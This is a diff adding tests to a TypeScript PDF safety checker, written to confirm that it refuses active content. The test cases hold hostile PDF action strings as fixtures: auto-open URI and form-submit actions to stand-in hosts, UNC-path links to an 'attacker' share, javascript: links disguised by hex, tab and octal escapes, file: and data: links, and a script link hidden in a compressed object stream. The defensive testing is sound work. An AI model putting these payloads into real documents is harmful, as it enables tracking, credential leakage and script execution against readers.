@@ -1,6 +1,6 @@
 /** judgePdf: real PDFs pass; fakes, encrypted files, polyglots and every kind of active content are refused. */
 import { randomBytes } from 'node:crypto';
-import { PDFDocument } from 'pdf-lib';
+import { PDFDocument, PDFName, PDFString } from 'pdf-lib';
 import sharp from 'sharp';
 import { describe, expect, it } from 'vitest';
 import { renderContractPdf } from '../pdf/contract-pdf.js';
@@ -73,6 +73,62 @@ describe('judgePdf', () => {
     ['embedded files', '/Names << /EmbeddedFiles << /Names [(x.exe) 4 0 R] >> >>'],
   ])('refuses %s in the catalog', async (_label, catalogExtra) => {
     expect(await judge(handWrittenPdf(catalogExtra))).toBe('unsafe');
+  });
+
+  /** An extra object: a link annotation whose action is `action`. */
+  const link = (action: string) => `4 0 obj\n<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A ${action} >>\nendobj\n`;
+  const hex = (text: string) => `<${Buffer.from(text, 'latin1').toString('hex')}>`;
+
+  it.each([
+    ['an /OpenAction that opens a web address', '/OpenAction << /S /URI /URI (https://tracker.example/open) >>'],
+    ['an /OpenAction that submits the form', '/OpenAction << /S /SubmitForm /F (https://evil.example/collect) >>'],
+    [
+      'an /OpenAction that opens a file on a UNC path',
+      String.raw`/OpenAction << /S /GoToR /F (\\\\attacker\\share\\x.pdf) /D [0 /Fit] >>`,
+    ],
+    [
+      'an /OpenAction GoTo followed by a web address',
+      '/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /URI /URI (https://x.example) >> >>',
+    ],
+    ['an /OpenAction of a hex-escaped type', '/OpenAction << /S /#55RI /URI (https://tracker.example) >>'],
+  ])('refuses %s', async (_label, catalogExtra) => {
+    expect(await judge(handWrittenPdf(catalogExtra))).toBe('unsafe');
+  });
+
+  it.each([
+    ['a javascript: link', '<< /S /URI /URI (javascript:app.alert\\(1\\)) >>'],
+    ['a javascript: link as a hex string', `<< /S /URI /URI ${hex('javascript:alert(1)')} >>`],
+    ['a javascript: link with a tab in its scheme', '<< /S /URI /URI (java\\tscript:alert\\(1\\)) >>'],
+    ['a JAVASCRIPT: link with an octal escape', '<< /S /URI /URI (\\112AVASCRIPT:alert\\(1\\)) >>'],
+    ['a file: link', '<< /S /URI /URI (file:///C:/Windows/System32/calc.exe) >>'],
+    ['a link to a UNC path', String.raw`<< /S /URI /URI (\\\\attacker\\share) >>`],
+    ['a data: link', '<< /S /URI /URI (data:text/html,<script>alert\\(1\\)</script>) >>'],
+    ['a link to another PDF (/GoToR)', String.raw`<< /S /GoToR /F (\\\\attacker\\share\\x.pdf) /D [0 /Fit] >>`],
+    ['a submit button', '<< /S /SubmitForm /F (https://evil.example/collect) >>'],
+  ])('refuses %s', async (_label, action) => {
+    expect(await judge(handWrittenPdf('', link(action)))).toBe('unsafe');
+  });
+
+  it('keeps a document that opens on a page, and web and mail links', async () => {
+    expect(await judge(handWrittenPdf('/OpenAction << /S /GoTo /D [3 0 R /Fit] >>'))).toBe('ok');
+    for (const target of [
+      '(https://sewamudah.my/help)',
+      '(http://example.com/a\\(b\\))',
+      '(mailto:hello@sewamudah.my)',
+    ]) {
+      expect(await judge(handWrittenPdf('', link(`<< /S /URI /URI ${target} >>`))), target).toBe('ok');
+    }
+  });
+
+  it('refuses a javascript: link inside a compressed object stream (pdf-lib writes its annotations there)', async () => {
+    const doc = await PDFDocument.create();
+    const page = doc.addPage();
+    const action = doc.context.obj({ S: 'URI', URI: PDFString.of('javascript:alert(1)') });
+    const annot = doc.context.obj({ Type: 'Annot', Subtype: 'Link', Rect: [0, 0, 9, 9], A: action });
+    page.node.set(PDFName.of('Annots'), doc.context.obj([doc.context.register(annot)]));
+    const bytes = Buffer.from(await doc.save({ useObjectStreams: true }));
+    expect(bytes.includes('javascript')).toBe(false); // only visible once inflated
+    expect(await judge(bytes)).toBe('unsafe');
   });
 
   it('refuses an action object that only a cross-reference would find', async () => {
